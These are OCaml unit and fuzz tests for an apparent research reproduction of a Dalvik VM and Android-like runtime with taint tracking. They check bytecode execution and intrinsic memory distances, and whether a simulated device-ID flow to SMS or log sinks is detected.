  checks "if-eqz" "if-eqz" (B.mnemonic (B.If_testz (B.Eq, 0, 0)));
  checks "invoke range" "invoke-virtual/range"
    (B.mnemonic (B.Invoke_range (B.Virtual, "m", [])));
  checkb "move moves data" true (B.moves_data (B.Move (0, 1)));
  checkb "const doesn't" false (B.moves_data (B.Const4 (0, 1)));
  checkb "invoke doesn't" false (B.moves_data (B.Invoke (B.Static, "m", [])))

(* --- Translation distances (the Table 1 property) ------------------------- *)

let test_translation_distances () =
  let rows = Pift_eval.Table1.measure_all () in
  checkb "enough cases measured" true (List.length rows >= 40);
  List.iter
    (fun (row : Pift_eval.Table1.row) ->
      checkb
        (Printf.sprintf "%s measured %s matches expectation"
           row.Pift_eval.Table1.mnemonic
           (match row.measured with
           | Some d -> string_of_int d
           | None -> "unknown"))
        true
        (Pift_eval.Table1.consistent row))
    rows

let test_translation_errors () =
  (try
     ignore (Translate.fragment (Translate.Plain (B.Iget (0, 1, "f"))));
     Alcotest.fail "field op as Plain accepted"
   with Invalid_argument _ -> ());
  (try
     ignore (Translate.fragment (Translate.Plain (B.Sget (0, "s"))));
     Alcotest.fail "static op as Plain accepted"
   with Invalid_argument _ -> ());
  (try
     ignore
       (Translate.fragment (Translate.Plain (B.Invoke (B.Static, "m", []))));
     Alcotest.fail "invoke as Plain accepted"
   with Invalid_argument _ -> ());
  try
    ignore (Translate.fragment (Translate.Static (B.Move (0, 1), 0)));
    Alcotest.fail "non-static as Static accepted"
  with Invalid_argument _ -> ()

(* --- VM execution --------------------------------------------------------- *)

let fresh_vm ?classes program_methods =
  let env = Env.create ~sink:(fun _ -> ()) () in
  let program = Program.make ?classes ~entry:"main" program_methods in
  (env, Vm.create env program)

let run_main ?classes methods = snd (fresh_vm ?classes methods) |> Vm.run

let call ?classes methods name args =
  let _, vm = fresh_vm ?classes methods in
  Vm.call vm name args

let meth = Method.make

let test_vm_arithmetic () =
  let body op a b =
    [
      B.Const16 (0, a);
      B.Const16 (1, b);
      B.Binop (op, 2, 0, 1);
      B.Return 2;
    ]
  in
  let result op a b =
    call [ meth ~name:"main" ~registers:4 ~ins:0 (body op a b) ] "main" []
  in
  checki "add" 30 (result B.Add 17 13);
  checki "sub" 4 (result B.Sub 17 13);
  checki "mul" 221 (result B.Mul 17 13);
  checki "div" 6 (result B.Div 85 13);
  checki "rem" 7 (result B.Rem 85 13);
  checki "and" 0b1000 (result B.And 0b1100 0b1010);
  checki "or" 0b1110 (result B.Or 0b1100 0b1010);
  checki "xor" 0b0110 (result B.Xor 0b1100 0b1010);
  checki "shl" 136 (result B.Shl 17 3);
  checki "shr" 2 (result B.Shr 17 3)

let test_vm_2addr_lit8 () =
  let r =
    call
      [
        meth ~name:"main" ~registers:4 ~ins:0
          [
            B.Const16 (0, 100);
            B.Const16 (1, 3);
            B.Binop_2addr (B.Sub, 0, 1);
            B.Binop_lit8 (B.Add, 0, 0, 5);
            B.Binop_lit8 (B.Div, 0, 0, 2);
            B.Return 0;
          ];
      ]
      "main" []
  in
  checki "((100-3)+5)/2" 51 r

let test_vm_conversions () =
  let r =
    call
      [
        meth ~name:"main" ~registers:6 ~ins:0
          [
            B.Const (0, 0x12345);
            B.Int_to_char (1, 0);
            B.Int_to_byte (2, 0);
            B.Binop (B.Add, 3, 1, 2);
            B.Return 3;
          ];
      ]
      "main" []
  in
  checki "int-to-char + int-to-byte" (0x2345 + 0x45) r

let test_vm_long_ops () =
  let r =
    call
      [
        meth ~name:"main" ~registers:10 ~ins:0
          [
            B.Const16 (0, 1000);
            B.Int_to_long (2, 0) (* v2,v3 = 1000L *);
            B.Const16 (1, 234);
            B.Int_to_long (4, 1);
            B.Add_long (6, 2, 4);
            B.Long_to_int (8, 6);
            B.Return 8;
          ];
      ]
      "main" []
  in
  checki "1000L + 234L" 1234 r

let test_vm_control_flow () =
  (* sum of 1..10 via a loop *)
  let r =
    call
      [
        meth ~name:"main" ~registers:4 ~ins:0
          [
            (* 0 *) B.Const4 (0, 0);
            (* 1 *) B.Const4 (1, 1);
            (* 2 *) B.Const16 (2, 10);
            (* 3 *) B.If_test (B.Gt, 1, 2, 7);
            (* 4 *) B.Binop_2addr (B.Add, 0, 1);
            (* 5 *) B.Binop_lit8 (B.Add, 1, 1, 1);
            (* 6 *) B.Goto 3;
            (* 7 *) B.Return 0;
          ];
      ]
      "main" []
  in
  checki "loop sum" 55 r

let test_vm_switch () =
  let prog_for () =
    [
      meth ~name:"main" ~registers:4 ~ins:1
        [
          (* 0 *) B.Packed_switch (3, [ (1, 3); (2, 5) ], 7);
          (* 1 *) B.Const16 (0, 99);
          (* 2 *) B.Return 0;
          (* 3 *) B.Const16 (0, 10);
          (* 4 *) B.Return 0;
          (* 5 *) B.Const16 (0, 20);
          (* 6 *) B.Return 0;
          (* 7 *) B.Const16 (0, 30);
          (* 8 *) B.Return 0;
        ];
    ]
  in
  checki "case 1" 10 (call (prog_for ()) "main" [ 1 ]);
  checki "case 2" 20 (call (prog_for ()) "main" [ 2 ]);
  checki "default" 30 (call (prog_for ()) "main" [ 9 ])

let test_vm_calls () =
  (* recursive factorial through real frames *)
  let fact =
    meth ~name:"fact" ~registers:5 ~ins:1
      [
        (* 0 *) B.Const4 (0, 1);
        (* 1 *) B.If_test (B.Gt, 4, 0, 3);
        (* 2 *) B.Return 4;
        (* 3 *) B.Binop_lit8 (B.Sub, 1, 4, 1);
        (* 4 *) B.Invoke (B.Static, "fact", [ 1 ]);
        (* 5 *) B.Move_result 2;
        (* 6 *) B.Binop (B.Mul, 3, 2, 4);
        (* 7 *) B.Return 3;
      ]
  in
  let main =
    meth ~name:"main" ~registers:3 ~ins:0
      [
        B.Const4 (0, 6);
        B.Invoke (B.Static, "fact", [ 0 ]);
        B.Move_result 1;
        B.Return 1;
      ]
  in
  checki "6!" 720 (call [ main; fact ] "main" [])

let test_vm_exceptions () =
  let thrower =
    meth ~name:"thrower" ~registers:2 ~ins:0
      [ B.New_instance (0, "Err"); B.Throw 0; B.Return_void ]
  in
  let main =
    meth ~name:"main" ~registers:4 ~ins:0
      ~handlers:[ { Method.try_start = 1; try_end = 2; target = 3 } ]
      [
        (* 0 *) B.Const16 (0, 1);
        (* 1 *) B.Invoke (B.Static, "thrower", []);
        (* 2 *) B.Return 0;
        (* 3 *) B.Move_exception 1;
        (* 4 *) B.Const16 (0, 42);
        (* 5 *) B.Return 0;
      ]
  in
  checki "caught across frames" 42
    (call ~classes:[ ("Err", []) ] [ main; thrower ] "main" []);
  (* uncaught propagates to run as `Uncaught *)
  let main2 =
    meth ~name:"main" ~registers:2 ~ins:0
      [ B.New_instance (0, "Err"); B.Throw 0; B.Return_void ]
  in
  match run_main ~classes:[ ("Err", []) ] [ main2 ] with
  | `Uncaught _ -> ()
  | `Ok -> Alcotest.fail "expected uncaught exception"

let test_vm_fields_statics () =
  let classes = [ ("Point", [ "x"; "y" ]) ] in
  let r =
    call ~classes
      [
        meth ~name:"main" ~registers:6 ~ins:0
          [
            B.New_instance (0, "Point");
            B.Const16 (1, 11);
            B.Iput (1, 0, "x");
            B.Const16 (1, 31);
            B.Iput (1, 0, "y");
            B.Iget (2, 0, "x");
            B.Iget (3, 0, "y");
            B.Binop (B.Add, 4, 2, 3);
            B.Sput (4, "G.sum");
            B.Sget (5, "G.sum");
            B.Return 5;
          ];
      ]
      "main" []
  in
  checki "fields + statics" 42 r

let test_vm_arrays () =
  let r =
    call
      [
        meth ~name:"main" ~registers:8 ~ins:0
          [
            B.Const4 (0, 4);
            B.New_array (1, 0, "int[]");
            B.Array_length (2, 1);
            B.Const4 (3, 2);
            B.Const16 (4, 1000);
            B.Aput (4, 1, 3);
            B.Aget (5, 1, 3);
            B.Binop (B.Add, 6, 5, 2);
            B.Return 6;
          ];
      ]
      "main" []
  in
  checki "array elem + length" 1004 r

let test_vm_strings_interning () =
  let trace = Trace.create () in
  let env = Env.create ~sink:(Trace.sink trace) () in
  let program =
    Program.make ~entry:"main"
      [
        meth ~name:"main" ~registers:4 ~ins:0
          [
            B.Const_string (0, "hello");
            B.Const_string (1, "hello");
            B.Const_string (2, "world");
            (* equal literals intern to the same reference *)
            B.Binop (B.Sub, 3, 0, 1);
            B.Return 3;
          ];
      ]
  in
  let vm = Vm.create env program in
  checki "interned" 0 (Vm.call vm "main" []);
  checkb "trace non-empty" true (Trace.length trace > 0)

let test_vm_events_and_code_memory () =
  (* every bytecode's translation emits a fetch load from code memory *)
  let trace = Trace.create () in
  let env = Env.create ~sink:(Trace.sink trace) () in
  let program =
    Program.make ~entry:"main"
      [
        meth ~name:"main" ~registers:2 ~ins:0
          [ B.Const4 (0, 1); B.Move (1, 0); B.Return 1 ];
      ]
  in
  let vm = Vm.create env program in
  checki "retval" 1 (Vm.call vm "main" []);
  let code_loads = ref 0 in
  Trace.iter
    (fun e ->
      match e.Pift_trace.Event.access with
      | Pift_trace.Event.Load r when Pift_util.Range.lo r >= 0x1000_0000
                                     && Pift_util.Range.lo r < 0x2000_0000 ->
          incr code_loads
      | _ -> ())
    trace;
  checkb "fetch loads from code memory" true (!code_loads >= 2)

let test_vm_errors () =
  (try
     ignore (call [ meth ~name:"main" ~registers:2 ~ins:0 [ B.Invoke (B.Static, "nope", []); B.Return_void ] ] "main" []);
     Alcotest.fail "unknown method accepted"
   with Failure _ -> ());
  try
    ignore (call [ meth ~name:"main" ~registers:2 ~ins:1 [ B.Return_void ] ] "main" []);
    Alcotest.fail "wrong arity accepted"
  with Failure _ -> ()

(* --- Differential fuzzing: interpreter vs JIT vs a pure OCaml evaluator --- *)

let mask32 v = v land 0xFFFF_FFFF

(* Reference semantics of the straight-line arithmetic subset. *)
let emulate code =
  let vregs = Array.make 8 0 in
  let signed v = if v land 0x8000_0000 <> 0 then v - 0x1_0000_0000 else v in
  let binop op a b =
    match op with
    | B.Add -> a + b
    | B.Sub -> a - b
    | B.Mul -> a * b
    | B.Div -> if b = 0 then 0 else a / b
    | B.Rem -> if b = 0 then 0 else a mod b
    | B.And -> a land b
    | B.Or -> a lor b
    | B.Xor -> a lxor b
    | B.Shl -> a lsl (b land 31)
    | B.Shr -> signed a asr (b land 31)
  in
  let result = ref 0 in
  List.iter
    (fun bc ->
      match bc with
      | B.Const4 (d, v) | B.Const16 (d, v) | B.Const (d, v) ->
          vregs.(d) <- mask32 v
      | B.Move (d, s) | B.Move_from16 (d, s) -> vregs.(d) <- vregs.(s)
      | B.Binop (op, d, s1, s2) ->
          vregs.(d) <- mask32 (binop op vregs.(s1) vregs.(s2))
      | B.Binop_2addr (op, d, s) ->
          vregs.(d) <- mask32 (binop op vregs.(d) vregs.(s))
      | B.Binop_lit8 (op, d, s, lit) ->
          vregs.(d) <- mask32 (binop op vregs.(s) lit)
      | B.Neg_int (d, s) -> vregs.(d) <- mask32 (-vregs.(s))
      | B.Int_to_char (d, s) -> vregs.(d) <- vregs.(s) land 0xFFFF
      | B.Int_to_byte (d, s) -> vregs.(d) <- vregs.(s) land 0xFF
      | B.Return s -> result := vregs.(s)
      | _ -> failwith "emulate: unsupported bytecode")
    code;
  !result

let fuzz_bytecode_gen =
  QCheck2.Gen.(
    let v = int_range 0 5 in
    let arith_op = oneofl [ B.Add; B.Sub; B.Mul; B.And; B.Or; B.Xor ] in
    let shift_op = oneofl [ B.Shl; B.Shr ] in
    let div_op = oneofl [ B.Div; B.Rem ] in
    let bc =
      oneof
        [
          (let* d = v and* value = int_range 0 0x7FFF in
           return (B.Const16 (d, value)));
          (let* d = v and* s = v in
           return (B.Move (d, s)));
          (let* op = arith_op and* d = v and* s1 = v and* s2 = v in
           return (B.Binop (op, d, s1, s2)));
          (let* op = arith_op and* d = v and* s = v in
           return (B.Binop_2addr (op, d, s)));
          (let* op = arith_op and* d = v and* s = v
           and* lit = int_range 0 100 in
           return (B.Binop_lit8 (op, d, s, lit)));
          (let* op = shift_op and* d = v and* s = v
           and* lit = int_range 0 8 in
           return (B.Binop_lit8 (op, d, s, lit)));
          (* division by a non-zero literal: exercises the ABI helper *)
          (let* op = div_op and* d = v and* s = v
           and* lit = int_range 1 100 in
           return (B.Binop_lit8 (op, d, s, lit)));
          (let* d = v and* s = v in
           return (B.Neg_int (d, s)));
          (let* d = v and* s = v in
           return (B.Int_to_char (d, s)));
          (let* d = v and* s = v in
           return (B.Int_to_byte (d, s)));
        ]
    in
    let* body = list_size (int_range 1 25) bc in
    let* ret = v in
    return (body @ [ B.Return ret ]))

let prop_vm_differential =
  QCheck2.Test.make ~name:"interpreter = JIT = reference semantics"
    ~count:200 fuzz_bytecode_gen (fun code ->
      let expected = emulate code in
      let run mode =
        let env = Env.create ~sink:(fun _ -> ()) () in
        let vm =
          Vm.create ~mode env
            (Program.make ~entry:"main"
               [ meth ~name:"main" ~registers:8 ~ins:0 code ])
        in
        Vm.call vm "main" []
      in
      run Vm.Interpreter = expected && run Vm.Jit = expected)

(* --- Dex_stats ------------------------------------------------------------ *)

let test_dex_stats () =
  let p =
    Program.make ~entry:"main"
      [
        meth ~name:"main" ~registers:4 ~ins:0
          [
            B.Move (0, 1);
            B.Move (1, 2);
            B.Const4 (0, 1);
            B.Return_void;
          ];
      ]
  in
  checki "total" 4 (Dex_stats.total_bytecodes [ p ]);
  let rows = Dex_stats.rows [ p ] in
  let move = List.find (fun r -> r.Dex_stats.mnemonic = "move") rows in
  checki "move count" 2 move.Dex_stats.count;
  Alcotest.(check (float 1e-9)) "move share" 0.5 move.Dex_stats.share;
  checkb "move flagged as data-moving" true move.Dex_stats.moves_data;
  checki "top 2" 2 (List.length (Dex_stats.top 2 [ p ]))

let () =
  Alcotest.run "pift_dalvik"
    [
      ( "structure",
        [
          Alcotest.test_case "method validation" `Quick test_method_validation;
          Alcotest.test_case "program validation" `Quick
            test_program_validation;
          Alcotest.test_case "bytecode metadata" `Quick test_bytecode_meta;
        ] );
      ( "translation",
        [
          Alcotest.test_case "Table 1 distances" `Slow
            test_translation_distances;
          Alcotest.test_case "resolution errors" `Quick
            test_translation_errors;
        ] );
      ( "vm",
        [
          Alcotest.test_case "arithmetic" `Quick test_vm_arithmetic;
          Alcotest.test_case "2addr & lit8" `Quick test_vm_2addr_lit8;
          Alcotest.test_case "conversions" `Quick test_vm_conversions;
          Alcotest.test_case "long ops" `Quick test_vm_long_ops;
          Alcotest.test_case "control flow" `Quick test_vm_control_flow;
          Alcotest.test_case "switch" `Quick test_vm_switch;
          Alcotest.test_case "calls & recursion" `Quick test_vm_calls;
          Alcotest.test_case "exceptions" `Quick test_vm_exceptions;
          Alcotest.test_case "fields & statics" `Quick test_vm_fields_statics;
          Alcotest.test_case "arrays" `Quick test_vm_arrays;
          Alcotest.test_case "string interning" `Quick
            test_vm_strings_interning;
          Alcotest.test_case "events & code memory" `Quick
            test_vm_events_and_code_memory;
          Alcotest.test_case "errors" `Quick test_vm_errors;
        ] );
      ("dex_stats", [ Alcotest.test_case "counting" `Quick test_dex_stats ]);
      ("fuzz", [ QCheck_alcotest.to_alcotest prop_vm_differential ]);
    ]
