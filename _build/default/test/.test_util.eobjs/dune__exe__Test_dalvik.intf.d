test/test_dalvik.mli:
