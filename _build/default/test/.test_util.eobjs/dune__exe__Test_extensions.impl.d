test/test_extensions.ml: Alcotest Array Filename Fun List Option Pift_arm Pift_core Pift_dalvik Pift_eval Pift_machine Pift_runtime Pift_trace Pift_util Pift_workloads QCheck2 QCheck_alcotest Sys
