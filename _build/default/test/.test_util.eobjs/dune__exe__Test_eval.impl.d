test/test_eval.ml: Alcotest Array Buffer Float Format Lazy List Pift_core Pift_eval Pift_trace Pift_util Pift_workloads String
