test/test_arm.ml: Alcotest Array List Pift_arm Pift_machine Printf QCheck2 QCheck_alcotest
