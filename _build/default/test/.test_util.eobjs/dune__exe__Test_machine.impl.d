test/test_machine.ml: Alcotest Bytes Char List Pift_arm Pift_machine Pift_trace Pift_util
