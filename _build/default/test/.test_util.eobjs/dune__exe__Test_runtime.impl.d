test/test_runtime.ml: Alcotest Array Char List Pift_machine Pift_runtime Pift_trace Pift_util String
