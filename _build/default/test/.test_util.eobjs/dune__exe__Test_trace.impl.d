test/test_trace.ml: Alcotest Hashtbl List Option Pift_arm Pift_trace Pift_util QCheck2 QCheck_alcotest
