test/test_core.ml: Alcotest Hashtbl List Pift_arm Pift_core Pift_trace Pift_util QCheck2 QCheck_alcotest
