test/test_workloads.ml: Alcotest Array List Pift_core Pift_dalvik Pift_eval Pift_trace Pift_workloads Printf String
