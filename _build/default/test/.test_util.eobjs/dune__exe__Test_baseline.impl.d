test/test_baseline.ml: Alcotest Array List Pift_arm Pift_baseline Pift_machine Pift_util QCheck2 QCheck_alcotest
