test/test_dalvik.ml: Alcotest Array List Pift_dalvik Pift_eval Pift_runtime Pift_trace Pift_util Printf QCheck2 QCheck_alcotest
