test/test_dsl.ml: Alcotest List Pift_dalvik Pift_runtime Pift_workloads
