test/test_util.ml: Alcotest Array Buffer Format Fun Int List Pift_util QCheck2 QCheck_alcotest String
