(* Tests for the Android-like runtime: heap objects, Java strings and
   arrays, native intrinsics (both their data results and the
   load→store distances the evaluation depends on), the PIFT manager,
   and the framework API natives. *)

module Range = Pift_util.Range
module Memory = Pift_machine.Memory
module Cpu = Pift_machine.Cpu
module Env = Pift_runtime.Env
module Heap = Pift_runtime.Heap
module Jstring = Pift_runtime.Jstring
module Jarray = Pift_runtime.Jarray
module Intrinsics = Pift_runtime.Intrinsics
module Manager = Pift_runtime.Manager
module Api = Pift_runtime.Api
module Tcb = Pift_runtime.Tcb
module Trace = Pift_trace.Trace
module Event = Pift_trace.Event

let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)
let checks = Alcotest.(check string)

let fresh () =
  let trace = Trace.create () in
  let env = Env.create ~sink:(Trace.sink trace) () in
  (env, trace)

(* --- Heap / Jstring / Jarray --------------------------------------------- *)

let test_heap () =
  let env, _ = fresh () in
  let h = env.Env.heap in
  let a = Heap.alloc h 10 in
  let b = Heap.alloc h 1 in
  checkb "aligned" true (a mod 8 = 0 && b mod 8 = 0);
  checkb "disjoint" true (b >= a + 16);
  let obj = Heap.new_object h ~class_name:"Foo" ~field_count:2 in
  checki "class id stored" (Heap.class_id "Foo") (Heap.read_class h obj);
  checkb "class id stable" true (Heap.class_id "Foo" = Heap.class_id "Foo");
  checkb "class names differ" true (Heap.class_id "Foo" <> Heap.class_id "Bar");
  checkb "reverse lookup" true
    (Heap.class_name_of_id (Heap.class_id "Foo") = Some "Foo");
  checki "field addr" (obj + 8) (Heap.field_addr ~obj ~index:1);
  checkb "allocated grows" true (Heap.allocated_bytes h > 0)

let test_jstring () =
  let env, _ = fresh () in
  let h = env.Env.heap in
  let s = Jstring.alloc h "hello" in
  checki "length" 5 (Jstring.length h s);
  checks "roundtrip" "hello" (Jstring.to_string h s);
  (match Jstring.data_range h s with
  | Some r -> checki "2 bytes per char" 10 (Range.length r)
  | None -> Alcotest.fail "missing data range");
  let empty = Jstring.alloc h "" in
  checkb "empty has no range" true (Jstring.data_range h empty = None)

let test_jarray () =
  let env, _ = fresh () in
  let h = env.Env.heap in
  let arr = Jarray.alloc h Jarray.Chars 4 in
  checki "length" 4 (Jarray.length h arr);
  Jarray.set Jarray.Chars h arr 2 0x41;
  checki "get" 0x41 (Jarray.get Jarray.Chars h arr 2);
  checki "elem addr" (Jarray.data_addr arr + 4)
    (Jarray.elem_addr Jarray.Chars ~arr ~index:2);
  (match Jarray.data_range Jarray.Chars h arr with
  | Some r -> checki "range bytes" 8 (Range.length r)
  | None -> Alcotest.fail "missing range");
  checki "byte elem size" 1 (Jarray.elem_size Jarray.Bytes);
  checki "word elem size" 4 (Jarray.elem_size Jarray.Words)

(* --- Intrinsics: results ---------------------------------------------------- *)

let test_char_copy () =
  let env, _ = fresh () in
  let h = env.Env.heap in
  let src = Jstring.alloc h "abcdef" in
  let dst = Jstring.alloc_empty h ~capacity:6 in
  let data s = Jarray.data_addr (Jstring.char_array h s) in
  Intrinsics.char_copy env.Env.cpu ~dst:(data dst) ~src:(data src) ~chars:6;
  checks "copied" "abcdef" (Jstring.to_string h dst);
  (* zero-length copies are safe *)
  Intrinsics.char_copy env.Env.cpu ~dst:(data dst) ~src:(data src) ~chars:0;
  checks "still intact" "abcdef" (Jstring.to_string h dst)

let test_itoa_values () =
  let env, _ = fresh () in
  let mem = Cpu.memory env.Env.cpu in
  let slot = 0x7300_0000 and buf = 0x7300_0100 in
  let convert v =
    Memory.write_u32 mem slot v;
    let n = Intrinsics.itoa env.Env.cpu ~value_addr:slot ~buf in
    String.init n (fun i -> Char.chr (Memory.read_u8 mem (buf + n - 1 - i)))
  in
  checks "0" "0" (convert 0);
  checks "7" "7" (convert 7);
  checks "42" "42" (convert 42);
  checks "37421998" "37421998" (convert 37421998);
  checks "1000" "1000" (convert 1000)

let test_transforms () =
  let env, _ = fresh () in
  let h = env.Env.heap in
  let data s = Jarray.data_addr (Jstring.char_array h s) in
  let src = Jstring.alloc h "abc" in
  let dst = Jstring.alloc_empty h ~capacity:3 in
  Intrinsics.char_copy_transform env.Env.cpu ~dst:(data dst) ~src:(data src)
    ~chars:3 ~xor:0x20;
  checks "xor 0x20 uppercases" "ABC" (Jstring.to_string h dst);
  (* narrowing + widening round trip *)
  let bytes = Jarray.alloc h Jarray.Bytes 3 in
  Intrinsics.char_to_byte_copy env.Env.cpu ~dst:(Jarray.data_addr bytes)
    ~src:(data src) ~chars:3;
  checki "narrowed" (Char.code 'b') (Jarray.get Jarray.Bytes h bytes 1);
  let back = Jstring.alloc_empty h ~capacity:3 in
  Intrinsics.byte_to_char_copy env.Env.cpu ~dst:(data back)
    ~src:(Jarray.data_addr bytes) ~bytes:3;
  checks "widened" "abc" (Jstring.to_string h back)

let test_deinterleave () =
  let env, _ = fresh () in
  let h = env.Env.heap in
  let data s = Jarray.data_addr (Jstring.char_array h s) in
  let src = Jstring.alloc h "a1b2c3" in
  let dst = Jstring.alloc_empty h ~capacity:6 in
  Intrinsics.char_deinterleave env.Env.cpu ~dst:(data dst) ~src:(data src)
    ~chars:6 ~counter_addr:0x7300_0000;
  checks "evens then odds" "abc123" (Jstring.to_string h dst);
  Alcotest.check_raises "odd length"
    (Invalid_argument "Intrinsics.char_deinterleave: odd length") (fun () ->
      Intrinsics.char_deinterleave env.Env.cpu ~dst:(data dst)
        ~src:(data src) ~chars:3 ~counter_addr:0x7300_0000)

let test_fill_and_word_copy () =
  let env, _ = fresh () in
  let h = env.Env.heap in
  let arr = Jarray.alloc h Jarray.Chars 4 in
  Intrinsics.fill_chars env.Env.cpu ~dst:(Jarray.data_addr arr) ~chars:4
    ~value:(Char.code 'x');
  checki "filled" (Char.code 'x') (Jarray.get Jarray.Chars h arr 3);
  let warr = Jarray.alloc h Jarray.Words 3 in
  Jarray.set Jarray.Words h warr 0 111;
  Jarray.set Jarray.Words h warr 2 333;
  let wdst = Jarray.alloc h Jarray.Words 3 in
  Intrinsics.word_copy env.Env.cpu ~dst:(Jarray.data_addr wdst)
    ~src:(Jarray.data_addr warr) ~words:3;
  checki "word copy" 333 (Jarray.get Jarray.Words h wdst 2)

(* --- Intrinsics: the distances the evaluation depends on ------------------- *)

(* Distance from the data load to the next store of the same run. *)
let measured_distance trace ~load_range =
  let result = ref None in
  let last_load_k = ref None in
  Trace.iter
    (fun e ->
      match e.Event.access with
      | Event.Load r when Range.overlaps r load_range ->
          last_load_k := Some e.Event.k
      | Event.Store _ -> (
          match (!last_load_k, !result) with
          | Some k, None -> result := Some (e.Event.k - k)
          | _ -> ())
      | _ -> ())
    trace;
  !result

let test_itoa_distance () =
  let env, trace = fresh () in
  let mem = Cpu.memory env.Env.cpu in
  let slot = 0x7300_0000 and buf = 0x7300_0100 in
  Memory.write_u32 mem slot 12345;
  ignore (Intrinsics.itoa env.Env.cpu ~value_addr:slot ~buf);
  match measured_distance trace ~load_range:(Range.of_len slot 4) with
  | Some d ->
      checki "itoa first-store distance" Intrinsics.itoa_first_store_distance
        d
  | None -> Alcotest.fail "no store observed"

let test_char_copy_distance () =
  let env, trace = fresh () in
  let h = env.Env.heap in
  let src = Jstring.alloc h "zz" in
  let dst = Jstring.alloc_empty h ~capacity:2 in
  let data s = Jarray.data_addr (Jstring.char_array h s) in
  Intrinsics.char_copy env.Env.cpu ~dst:(data dst) ~src:(data src) ~chars:2;
  (match
     measured_distance trace ~load_range:(Range.of_len (data src) 4)
   with
  | Some d -> checki "char_copy distance" 2 d
  | None -> Alcotest.fail "no store observed");
  (* the logged variant stores counter after data: distances 3 then 4 *)
  let env2, trace2 = fresh () in
  let h2 = env2.Env.heap in
  let src2 = Jstring.alloc h2 "zz" in
  let dst2 = Jstring.alloc_empty h2 ~capacity:2 in
  let data2 s = Jarray.data_addr (Jstring.char_array h2 s) in
  Intrinsics.char_copy_logged env2.Env.cpu ~dst:(data2 dst2)
    ~src:(data2 src2) ~chars:2 ~counter_addr:0x7300_0000;
  match
    measured_distance trace2 ~load_range:(Range.of_len (data2 src2) 4)
  with
  | Some d -> checki "char_copy_logged distance" 3 d
  | None -> Alcotest.fail "no store observed"

(* --- Manager ---------------------------------------------------------------- *)

let test_manager () =
  let m = Manager.create () in
  let tainted = ref [] in
  Manager.add_tracker m ~name:"t"
    ~taint:(fun ~pid:_ r -> tainted := r :: !tainted)
    ~check:(fun ~pid:_ r -> Range.lo r = 0x100);
  let sources = ref 0 and checks_seen = ref 0 in
  Manager.subscribe_sources m (fun ~pid:_ ~kind:_ _ -> incr sources);
  Manager.subscribe_checks m (fun ~pid:_ ~kind:_ _ -> incr checks_seen);
  Manager.register_source m ~pid:1 ~kind:"IMEI" (Range.of_len 0x100 4);
  checki "taint hook ran" 1 (List.length !tainted);
  checki "source sub ran" 1 !sources;
  Manager.check_sink m ~pid:1 ~kind:"sms" [ Range.of_len 0x100 4 ];
  Manager.check_sink m ~pid:1 ~kind:"http" [ Range.of_len 0x200 4 ];
  checki "check subs ran" 2 !checks_seen;
  checkb "leaked" true (Manager.leaked m ~tracker:"t");
  let verdicts = Manager.verdicts m in
  checki "two verdicts" 2 (List.length verdicts);
  let first = List.hd verdicts in
  checks "ordered" "sms" first.Manager.sink;
  checkb "first flagged" true (List.assoc "t" first.Manager.tainted);
  checki "sources recorded" 1 (List.length (Manager.sources m))

(* --- Api natives ------------------------------------------------------------ *)

let run_native env native args =
  let fp = 0x70e0_0000 in
  let mem = Cpu.memory env.Env.cpu in
  List.iteri (fun i v -> Memory.write_u32 mem (fp + (4 * i)) v) args;
  native env ~args:(Array.of_list args)
    ~arg_addrs:(Array.of_list (List.mapi (fun i _ -> fp + (4 * i)) args));
  Env.retval env

let test_api_strings () =
  let env, _ = fresh () in
  let h = env.Env.heap in
  let s str = Jstring.alloc h str in
  let concat = run_native env Api.string_concat [ s "foo"; s "bar" ] in
  checks "concat" "foobar" (Jstring.to_string h concat);
  let upper = run_native env Api.string_to_upper [ s "abc" ] in
  checks "upper" "ABC" (Jstring.to_string h upper);
  let sub = run_native env Api.string_substring [ s "abcdef"; 2; 3 ] in
  checks "substring" "cde" (Jstring.to_string h sub);
  let n = run_native env Api.string_length [ s "abcd" ] in
  checki "length" 4 n;
  let c = run_native env Api.string_char_at [ s "abcd"; 2 ] in
  checki "charAt" (Char.code 'c') c;
  let v = run_native env Api.string_value_of_int [ 4321 ] in
  checks "valueOf" "4321" (Jstring.to_string h v);
  let bytes = run_native env Api.string_get_bytes [ s "xyz" ] in
  let back = run_native env Api.string_from_bytes [ bytes ] in
  checks "bytes roundtrip" "xyz" (Jstring.to_string h back)

let test_api_string_builder () =
  let env, _ = fresh () in
  let h = env.Env.heap in
  let s str = Jstring.alloc h str in
  let sb = run_native env Api.sb_new [] in
  let sb = run_native env Api.sb_append [ sb; s "count=" ] in
  let sb = run_native env Api.sb_append_int [ sb; 99 ] in
  let sb = run_native env Api.sb_append_char [ sb; Char.code '!' ] in
  (* growth beyond the 32-char initial capacity *)
  let sb = run_native env Api.sb_append [ sb; s (String.make 40 'x') ] in
  let str = run_native env Api.sb_to_string [ sb ] in
  checks "builder contents" ("count=99!" ^ String.make 40 'x')
    (Jstring.to_string h str)

let test_api_sources_sinks () =
  let env, _ = fresh () in
  let h = env.Env.heap in
  let m = env.Env.manager in
  let imei_ref = run_native env Api.get_device_id [] in
  checks "imei value" Api.imei (Jstring.to_string h imei_ref);
  checki "source registered" 1 (List.length (Manager.sources m));
  (* primitive source taints the return slot *)
  ignore (run_native env Api.get_latitude []);
  checki "two sources" 2 (List.length (Manager.sources m));
  checki "latitude value" Api.latitude_ud (Env.retval env);
  (* sinks record verdicts with no trackers attached *)
  let dest = Jstring.alloc h "5554" in
  ignore (run_native env Api.send_text_message [ dest; imei_ref ]);
  ignore (run_native env Api.log_i [ dest; imei_ref ]);
  let kinds =
    List.map (fun (v : Manager.verdict) -> v.Manager.sink) (Manager.verdicts m)
  in
  checkb "sms then log" true (kinds = [ "sms"; "log" ])

let test_api_base64 () =
  let env, trace = fresh () in
  let h = env.Env.heap in
  let s = Jstring.alloc h "Man" in
  let bytes = run_native env Api.string_get_bytes [ s ] in
  let encoded = run_native env Api.base64_encode [ bytes ] in
  checks "RFC 4648 vector" "TWFu" (Jstring.to_string h encoded);
  let s2 = Jstring.alloc h "ManMan" in
  let bytes2 = run_native env Api.string_get_bytes [ s2 ] in
  let encoded2 = run_native env Api.base64_encode [ bytes2 ] in
  checks "two groups" "TWFuTWFu" (Jstring.to_string h encoded2);
  (* the alphabet lookups are real loads in the event stream *)
  checkb "emits events" true (Trace.length trace > 50)

let test_api_arraycopy () =
  let env, _ = fresh () in
  let h = env.Env.heap in
  let src = Jarray.alloc h Jarray.Chars 4 in
  let dst = Jarray.alloc h Jarray.Chars 4 in
